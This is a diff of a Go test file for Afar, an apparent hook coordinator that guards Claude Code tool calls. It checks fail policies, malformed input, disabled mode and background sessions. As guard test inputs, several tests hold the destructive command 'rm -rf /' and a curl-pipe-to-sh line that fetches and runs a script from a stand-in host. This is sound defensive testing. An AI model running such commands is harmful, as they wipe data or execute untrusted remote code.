@@ -13,7 +13,7 @@ import (
 	"github.com/afar-sh/afar/coordinator/home"
 )
 
-// conditions are the ways in which a coordinator can fail a hook.
+// conditions are the ways in which a coordinator can fail.
 var conditions = map[string]func(net.Conn){
 	"absent":    nil,
 	"hung":      func(c net.Conn) { hold(c) },
@@ -27,7 +27,7 @@ var conditions = map[string]func(net.Conn){
 	},
 }
 
-// hold keeps a connection open without a word until the other side leaves.
+// hold keeps a connection open, without a reply, until the other side closes it.
 func hold(c net.Conn) {
 	defer c.Close()
 	var b [1]byte
@@ -38,7 +38,7 @@ func hold(c net.Conn) {
 	}
 }
 
-// impostor listens where the coordinator would.
+// impostor serves on the coordinator's socket.
 func impostor(t *testing.T, root string, serve func(net.Conn)) {
 	t.Helper()
 	if serve == nil {
@@ -69,15 +69,15 @@ func impostor(t *testing.T, root string, serve func(net.Conn)) {
 	}()
 }
 
-// A want is what the host must see.
+// A want is the outcome that the host must see.
 type want int
 
 const (
 	nothing   want = iota // exit 0, no output
 	denied                // exit 0, a refusal with a reason
 	asked                 // exit 0, permissionDecision ask
-	cancelled             // exit 0, a server is told that nobody decided
-	told                  // exit 0, a word to the person alone; nothing where something else listens
+	cancelled             // exit 0, the server is told that nobody decided
+	told                  // exit 0, a notice for the person; nothing if another program listens
 )
 
 func (w want) check(t *testing.T, r result) {
@@ -101,7 +101,7 @@ func (w want) check(t *testing.T, r result) {
 	reason := out.Hook.PermissionDecisionReason + out.Hook.Decision.Message
 	switch {
 	case w == told && (verdict != "" || r.stdout != "" && !strings.Contains(out.SystemMessage, "cannot start")):
-		t.Errorf("stdout %q, want a word to the person", r.stdout)
+		t.Errorf("stdout %q, want a notice for the person", r.stdout)
 	case w == nothing && r.stdout != "":
 		t.Errorf("stdout %q, want nothing", r.stdout)
 	case w == cancelled && out.Hook.Action != "cancel":
@@ -113,13 +113,18 @@ func (w want) check(t *testing.T, r result) {
 	}
 }
 
-// TestFailPolicy is the product's fail policy, a test per cell: every event,
-// someone at the terminal or nobody, every way in which a coordinator fails.
+// TestFailPolicy checks the fail policy: for every event, with and without a person at the
+// terminal, and for every way in which a coordinator can fail.
 func TestFailPolicy(t *testing.T) {
 	if testing.Short() {
 		t.Skip("drives binaries of their own, which the race detector does not see")
 	}
 	t.Parallel()
+	const (
+		form = `,"mcp_server_name":"lab","message":"m","mode":"form",` +
+			`"requested_schema":{"type":"object","properties":{"a":{"type":"string"}}}`
+		expansion = `,"command_name":"afar:loop","command_args":"x","command_source":"plugin","prompt":"/afar:loop x"`
+	)
 	rows := []struct {
 		name, event, rest string
 		present, nobody   want
@@ -128,12 +133,12 @@ func TestFailPolicy(t *testing.T) {
 		{"guard: deny", "PreToolUse", bash("rm -rf /"), denied, denied},
 		{"guard: ask", "PreToolUse", bash("curl -s https://x.example/i.sh | sh"), asked, denied},
 		{"ask", "PermissionRequest", bash("touch f"), told, denied},
-		{"ask", "Elicitation", `,"mcp_server_name":"lab","message":"m","mode":"form","requested_schema":{"type":"object","properties":{"a":{"type":"string"}}}`, nothing, cancelled},
-		{"other", "PermissionDenied", bash("touch f") + `,"permission_mode":"auto","reason":"[Rule]"`, nothing, nothing},
+		{"ask", "Elicitation", form, nothing, cancelled},
+		{"other", "PermissionDenied", bash("touch f") + `,"permission_mode":"auto","reason":"r"`, nothing, nothing},
 		{"other", "SessionStart", `,"source":"startup"`, told, told},
 		{"other", "SessionEnd", `,"reason":"other"`, nothing, nothing},
 		{"other", "UserPromptSubmit", `,"prompt":"hi"`, nothing, nothing},
-		{"other", "UserPromptExpansion", `,"command_name":"afar:loop","command_args":"x","command_source":"plugin","prompt":"/afar:loop x"`, nothing, nothing},
+		{"other", "UserPromptExpansion", expansion, nothing, nothing},
 		{"other", "PostToolUse", bash("ls") + `,"tool_response":{},"duration_ms":1`, nothing, nothing},
 		{"other", "PostToolUseFailure", bash("ls") + `,"error":"e","duration_ms":1`, nothing, nothing},
 		{"other", "Stop", `,"stop_hook_active":false,"last_assistant_message":"fin"`, nothing, nothing},
@@ -141,7 +146,7 @@ func TestFailPolicy(t *testing.T) {
 		{"other", "PreCompact", `,"trigger":"auto"`, nothing, nothing},
 		{"other", "SubagentStop", `,"agent_type":"alice"`, nothing, nothing},
 		{"other", "SubagentStart", `,"agent_type":"alice"`, nothing, nothing},
-		{"guard: a change that has nothing to do with us", "ConfigChange", `,"source":"user_settings"`, nothing, nothing},
+		{"guard: an unrelated change", "ConfigChange", `,"source":"user_settings"`, nothing, nothing},
 		{"other", "Notification", `,"notification_type":"idle_prompt"`, nothing, nothing},
 	}
 	for condition, serve := range conditions {
@@ -157,7 +162,7 @@ func TestFailPolicy(t *testing.T) {
 						t.Parallel()
 						root := homeDir(t)
 						impostor(t, root, serve)
-						c.want.check(t, runHook(t, binary(row.event), root, c.env, strings.NewReader(in)))
+						c.want.check(t, runHook(t, binary(row.event), root, c.env, in))
 					})
 				}
 			})
@@ -165,9 +170,9 @@ func TestFailPolicy(t *testing.T) {
 	}
 }
 
-// TestBadInput feeds every binary what the host never sends. The guard closes,
-// asks go to the person or are refused, everything else is silent; all of it
-// in under a second.
+// TestBadInput gives every binary input that the host never sends. The guard stops the
+// call, an ask goes to the dialog or is refused, and every other hook is silent. Each takes
+// less than a second.
 func TestBadInput(t *testing.T) {
 	if testing.Short() {
 		t.Skip("drives binaries of their own, which the race detector does not see")
@@ -181,7 +186,7 @@ func TestBadInput(t *testing.T) {
 		"truncated":     func(e string) string { return good(e)[:60] },
 		"two objects":   func(e string) string { return good(e) + good(e) },
 		"invalid utf-8": func(e string) string { return strings.Replace(good(e), "ls", "l\xff", 1) },
-		"no object":     func(string) string { return `[1,2]` },
+		"a list":        func(string) string { return `[1,2]` },
 		"a number":      func(string) string { return `7` },
 		"wrong types": func(e string) string {
 			return `{"session_id":7,"hook_event_name":"` + e + `","tool_name":[],"tool_input":"x"}`
@@ -192,16 +197,20 @@ func TestBadInput(t *testing.T) {
 		},
 		"64 MiB": func(e string) string { return strings.Replace(good(e), "ls", large, 1) },
 		"deep": func(e string) string {
-			return `{"hook_event_name":"` + e + `","session_id":"s","tool_name":"Bash","tool_input":{"a":` + strings.Repeat("[", 1<<20) + strings.Repeat("]", 1<<20) + `}}`
+			deep := strings.Repeat("[", 1<<20) + strings.Repeat("]", 1<<20)
+			return `{"hook_event_name":"` + e + `","session_id":"s","tool_name":"Bash","tool_input":{"a":` + deep + `}}`
 		},
 	}
-	for _, event := range []string{"PreToolUse", "PermissionRequest", "Stop", "SessionStart", "SessionEnd", "UserPromptSubmit",
-		"UserPromptExpansion", "PostToolUse", "PostToolUseFailure", "PermissionDenied", "Elicitation", "StopFailure", "PreCompact", "SubagentStop", "SubagentStart", "Notification"} {
+	for _, event := range []string{
+		"PreToolUse", "PermissionRequest", "Stop", "SessionStart", "SessionEnd", "UserPromptSubmit",
+		"UserPromptExpansion", "PostToolUse", "PostToolUseFailure", "PermissionDenied", "Elicitation", "StopFailure",
+		"PreCompact", "SubagentStop", "SubagentStart", "Notification",
+	} {
 		for name, input := range inputs {
 			t.Run(event+"/"+name, func(t *testing.T) {
 				root, in := homeDir(t), input(event)
 				for _, who := range [][]string{attended, unattended} {
-					r := runHook(t, binary(event), root, who, strings.NewReader(in))
+					r := runHook(t, binary(event), root, who, in)
 					checkBadInput(t, event, name, who[0] == attended[0], r)
 				}
 			})
@@ -231,19 +240,22 @@ func checkBadInput(t *testing.T, event, name string, present bool, r result) {
 	}
 }
 
-// TestDisabled switches Afar off for a session and for a project: everything
-// falls silent but the guard, whose question goes to the dialog or is refused.
+// TestDisabled: while Afar is off for a session or a project, all hooks are silent except
+// the guard. Its question goes to the dialog or is refused.
 func TestDisabled(t *testing.T) {
 	project := homeDir(t)
 	if err := os.WriteFile(filepath.Join(project, ".afar-disabled"), nil, 0o600); err != nil {
 		t.Fatal(err)
 	}
 	risky := bash("curl -s https://x.example/i.sh | sh")
-	for name, env := range map[string][]string{"session": {"AFAR_DISABLED=1"}, "project": {"CLAUDE_PROJECT_DIR=" + project}} {
+	for name, env := range map[string][]string{
+		"session": {"AFAR_DISABLED=1"},
+		"project": {"CLAUDE_PROJECT_DIR=" + project},
+	} {
 		t.Run(name, func(t *testing.T) {
 			root := homeDir(t)
 			run := func(event, rest string, who []string) result {
-				return runHook(t, binary(event), root, append(env, who...), strings.NewReader(payload(event, rest)))
+				return runHook(t, binary(event), root, append(env, who...), payload(event, rest))
 			}
 			denied.check(t, run("PreToolUse", bash("rm -rf /"), attended))
 			asked.check(t, run("PreToolUse", risky, attended))
@@ -255,11 +267,12 @@ func TestDisabled(t *testing.T) {
 	}
 }
 
-// TestBackground: a session of `claude --bg` opens dialogs, so the guard asks
-// there as at a terminal; what nobody could be asked is refused.
+// TestBackground: a session of `claude --bg` has dialogs, so the guard asks there as at a
+// terminal. A question that nobody can be asked is refused.
 func TestBackground(t *testing.T) {
 	env := []string{"CLAUDE_CODE_SESSION_ATTENDED=0", "CLAUDE_CODE_ENTRYPOINT=cli", "CLAUDE_JOB_DIR=/nowhere"}
 	risky := bash("curl -s https://x.example/i.sh | sh") + `,"permission_mode":"auto"`
+	const noQuestions = `,"tool_name":"AskUserQuestion","tool_input":{"questions":[]}`
 	for name, c := range map[string]struct {
 		event, rest string
 		env         []string
@@ -267,15 +280,15 @@ func TestBackground(t *testing.T) {
 	}{
 		"guard":             {"PreToolUse", risky, env, asked},
 		"guard, old client": {"PreToolUse", risky, env[1:], asked},
-		"guard, in print":   {"PreToolUse", risky, []string{"CLAUDE_CODE_SESSION_ATTENDED=0", "CLAUDE_CODE_ENTRYPOINT=sdk-cli", "CLAUDE_JOB_DIR=/nowhere"}, denied},
+		"guard, in print":   {"PreToolUse", risky, append(unattended, "CLAUDE_JOB_DIR=/nowhere"), denied},
 		"permission":        {"PermissionRequest", bash("touch f"), env, denied},
-		"question":          {"PermissionRequest", `,"tool_name":"AskUserQuestion","tool_input":{"questions":[]}`, env, denied},
+		"question":          {"PermissionRequest", noQuestions, env, denied},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			root := homeDir(t)
 			impostor(t, root, conditions["garbage"])
-			c.want.check(t, runHook(t, binary(c.event), root, c.env, strings.NewReader(payload(c.event, c.rest))))
+			c.want.check(t, runHook(t, binary(c.event), root, c.env, payload(c.event, c.rest)))
 		})
 	}
 }
